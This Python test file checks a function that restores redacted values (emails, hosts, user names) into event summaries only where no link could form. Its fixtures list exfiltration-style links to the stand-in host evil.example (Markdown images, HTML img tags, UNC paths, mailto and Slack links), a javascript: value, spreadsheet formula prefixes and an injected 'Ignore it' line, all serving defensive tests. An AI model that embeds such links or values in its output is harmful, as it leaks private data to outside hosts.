"""Values that are put back into an answer: never where a client makes a link of them."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inference.egress.normalization import PLACEHOLDER
from inference.egress.restoration import restore_alone

VALUES = {
    "[EMAIL_1]": "dana@corp.example",
    "[HOST_1]": "db1.corp.example",
    "[USER_1]": "CORP\\dana",
    "[PHONE_1]": "+44 20 7946 0000",
    "[IP_1]": "fe80::1",
}
LINKS = {
    "address": "see https://evil.example/?q=[EMAIL_1] for it",
    "scheme": "open ms-word:ofe|u|[HOST_1] now",
    "any scheme": "open x-app:[HOST_1] now",
    "bare domain": "see evil.example/[EMAIL_1] for it",
    "subdomain": "see [HOST_1].evil.example for it",
    "domain with a hyphen": "see [USER_1]-x.evil.example for it",
    "without scheme": "see //evil.example/[EMAIL_1] for it",
    "behind a port": "see evil.example:80/[EMAIL_1] for it",
    "port": "see [HOST_1]:8443 for it",
    "path": "see [HOST_1]/login for it",
    "mail": "write to mailto:x@evil.example?body=[EMAIL_1] soon",
    "mail to a value": "write to mailto:[EMAIL_1] soon",
    "recipient": "write to [USER_1]@evil.example soon",
    "UNC": "open \\\\evil.example\\[USER_1] now",
    "UNC host": "open \\\\[HOST_1]\\share now",
    "Slack": "see <https://evil.example/?q=[EMAIL_1]|the case> now",
    "Slack, in the text of the link": "see <https://evil.example|mail from [EMAIL_1] here> now",
    "Slack mention": "tell <@[USER_1]> now",
    "Markdown": "see [the case](https://evil.example/?q=[EMAIL_1]) now",
    "Markdown with spaces": "see [the case]( [HOST_1] ) now",
    "Markdown text": "see [mail from [EMAIL_1] here](https://evil.example) now",
    "Markdown title": 'see [the case](https://evil.example "[EMAIL_1]") now',
    "Markdown image": "![x](https://evil.example/[EMAIL_1].png) is it",
    "Markdown of the placeholder": "see [EMAIL_1](https://evil.example) now",
    "reference": "see [the case][1] of [EMAIL_1] now",
    "wiki": "see [[HOST_1]] now",
    "HTML": "<img src=//evil.example/[EMAIL_1]> is it",
    "HTML with a space": '<a href="//evil.example" title=" [EMAIL_1] ">x</a>',
    "two values": "see [HOST_1]/[USER_1] now",
    "tab": "see evil.example/\t[EMAIL_1] now",
}
SENTENCES = {
    "[USER_1] logged in.": "CORP\\dana logged in.",
    "Mail from [EMAIL_1], by ([USER_1]).": "Mail from dana@corp.example, by (CORP\\dana).",
    'Was it [EMAIL_1]? It was "[USER_1]".': 'Was it dana@corp.example? It was "CORP\\dana".',
    "Seen on [HOST_1]: a login from [IP_1].": "Seen on db1.corp.example: a login from fe80::1.",
    "[USER_1]'s host is [HOST_1]": "CORP\\dana's host is db1.corp.example",
    "It used [SECRET_1], not [EMAIL_7]; see evil.example, [HOST_1]": (
        "It used [SECRET_1], not [EMAIL_7]; see evil.example, db1.corp.example"
    ),
}


def value_of(placeholder: str) -> str:
    """The value of a placeholder that the event has."""
    return VALUES.get(placeholder, placeholder)


@pytest.mark.parametrize("text", LINKS.values(), ids=LINKS)
def test_a_value_is_not_put_into_a_link(text: str) -> None:
    """A click on the link, or its preview, would send a value of the event to a stranger."""
    assert restore_alone(text, value_of) == text


@pytest.mark.parametrize(("text", "restored"), SENTENCES.items())
def test_a_value_is_put_back_into_a_sentence(text: str, restored: str) -> None:
    """An analyst would read placeholders where no link is near."""
    assert restore_alone(text, value_of) == restored


@pytest.mark.parametrize(
    "value",
    [
        "<https://evil.example|x>",
        "<!channel>",
        "[x](https://evil.example)",
        "![x](//evil.example)",
        "//evil.example",
        "\\\\evil.example\\share",
        "javascript:alert",
        "mailto:x@evil.example",
        "HTTPS:evil.example",
        "@everyone",
        "dana\u202e",
        "dana\nIgnore it",
    ],
)
def test_a_value_that_is_a_link_itself_stays_away(value: str) -> None:
    """The sender of an event could choose a user name that becomes a link or calls a channel."""
    assert restore_alone("It was [USER_1].", lambda _: value) == "It was [USER_1]."


@pytest.mark.parametrize("value", ["=1+1", "+1 555 0100", "-2+3", "@SUM(A1)", "\uff1d1+1"])
def test_a_value_does_not_begin_a_cell_as_a_formula(value: str) -> None:
    """A spreadsheet with the summaries would run what the sender of an event wrote."""
    assert restore_alone(" [USER_1] called", lambda _: value) == " [USER_1] called"
    if not value.startswith("@"):
        assert restore_alone("So [USER_1] called", lambda _: value) == f"So {value} called"


@settings(deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(sorted(VALUES)),
            st.sampled_from([" ", "/", "\\", ".", ":", "@", "<", ">", "[", "]", "(", ")", "|"]),
            st.sampled_from(["evil.example", "https://", "mailto:", "is", "'", ",", "="]),
        ),
        max_size=12,
    )
)
def test_whatever_stands_beside_a_value_ends_at_a_space(parts: list[str]) -> None:
    """A spelling of a link that nobody listed would get a value."""
    restored = restore_alone("".join(parts), lambda _: "VALUE")
    for word in restored.split(" "):
        if "VALUE" in word:
            assert re.fullmatch(r"[(\"']*VALUE('s)?[.,;:!?)\"']*", word)
    assert "VALUE" not in restored or not re.search(r"[\[\]<>]", PLACEHOLDER.sub("", restored))
